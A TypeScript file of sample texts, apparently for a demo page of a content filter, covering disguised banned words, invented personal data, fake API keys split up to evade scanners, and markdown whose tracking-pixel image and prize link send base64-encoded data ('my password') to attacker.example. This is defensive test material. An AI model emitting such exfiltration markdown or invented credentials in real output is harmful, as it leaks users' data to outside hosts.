import type { Locale } from '../locale.ts'

export const sampleNames = ['chinese', 'english', 'personal', 'key', 'markdown', 'untouched'] as const
export type SampleName = (typeof sampleNames)[number]

const invisible = '\u200b'

// Put together here, so that nothing in the repository looks like a key. Nobody has any of them.
const projectKey = ['sk', 'proj', 'T7mQ2xLr9ZbVw4KcYh8NdJf3GsPa6EuXk1RtBqMzHvW5'].join('-')
const qianfanKey = ['bce', 'v3/ALTAK', 'q8Xw2LmTz7RbKc4VnYh3J/9f3a61c07be24d58a1f09c6e7d3b42508ae1f6c9'].join('-')

const chinese = `论坛里有人问哪里能“放 贷”，有人写成放*贷、放${invisible}贷、放貸，还有走💵私、假-钞、假　钞。
夹了字母的放x贷、写成拼音的fang贷，打开相应的开关才认得出。
至于打击走私的新闻，是放行的短语，一字不动。`

const english = `Somebody sells o.p-i-u-m, and books a trip to the саsіnо (with Cyrillic letters), the ｃａｓｉｎｏ (full width) or the ${[...'casino'].join(invisible)} (with invisible spaces).
0p1um and ooopium need the switches for look-alike digits and repeats.
Casino Royale is a film and may stay. So may the Occasino, which only contains the word.`

const texts: Readonly<Record<SampleName, Readonly<Record<Locale, string>>>> = {
  chinese: { zh: chinese, en: chinese },
  english: { zh: english, en: english },
  personal: {
    zh: `请帮我填表：身份证 11010519491231002X，手机 138 0013 8000，银行卡 6222 0212 3456 7890 128，
邮箱 ada@mail.example，IBAN DE89 3704 0044 0532 0130 00，从 203.0.113.7 登录。
订单号 202611230001234567 和圆周率 3.14159265358979 不是个人信息，不该动。`,
    en: `Please fill in the form: identity card 11010519491231002X, phone +86 138 0013 8000, card 6222 0212 3456 7890 128,
mail ada@mail.example, IBAN DE89 3704 0044 0532 0130 00, seen from 203.0.113.7.
Order 202611230001234567 and 3.14159265358979 are nobody’s data and stay.`,
  },
  key: {
    zh: `我的代码报错了，帮我看看：
const client = new OpenAI({ apiKey: '${projectKey}' })
千帆那边用的是 ${qianfanKey}，数据库是 postgres://admin:tulip-8231@db:5432/app。
文档里的 sk-your-key-here 只是占位，不该动。`,
    en: `My code fails, can you have a look?
const client = new OpenAI({ apiKey: '${projectKey}' })
For Qianfan we use ${qianfanKey}, and the database is postgres://admin:tulip-8231@db:5432/app.
The sk-your-key-here of the documentation stands for a key and stays.`,
  },
  markdown: {
    zh: `总结好了。

![加载中](https://pixel.attacker.example/p.png?d=5oiR55qE5a+G56CB)

详情见[文档](https://example.com/docs)，或者[点这里领奖](https://attacker.example/win?q=5oiR55qE)。
![图示](https://img.example.org/chart.png)`,
    en: `Here is your summary.

![loading](https://pixel.attacker.example/p.png?d=bXkgcGFzc3dvcmQ)

More in the [documentation](https://example.com/docs), or [claim your prize](https://attacker.example/win?q=bXkgcGFz).
![chart](https://img.example.org/chart.png)`,
  },
  untouched: {
    zh: `می‌خواهم کتاب‌هایم را ببینم.
一家四口 👨‍👩‍👧‍👦，宇航员 👩🏽‍🚀，彩虹旗 🏳️‍🌈，五星红旗 🇨🇳。
ไม่มีอะไรต้องซ่อน · हिन्दी में लिखा · Zażółć gęślą jaźń · Scunthorpe
每一个字节都原样通过，流上也一样。`,
    en: `می‌خواهم کتاب‌هایم را ببینم.
A family 👨‍👩‍👧‍👦, an astronaut 👩🏽‍🚀, a rainbow flag 🏳️‍🌈 and 🇨🇳.
ไม่มีอะไรต้องซ่อน · हिन्दी में लिखा · Zażółć gęślą jaźń · Scunthorpe
Every byte passes as it is, in a stream as well.`,
  },
}

/** A text to try rules on. Persons, numbers and keys in it are invented. */
export function sampleText(name: SampleName, locale: Locale): string {
  return texts[name][locale]
}

/** What the page begins with. */
export const firstSample: Readonly<Record<Locale, SampleName>> = { zh: 'chinese', en: 'english' }
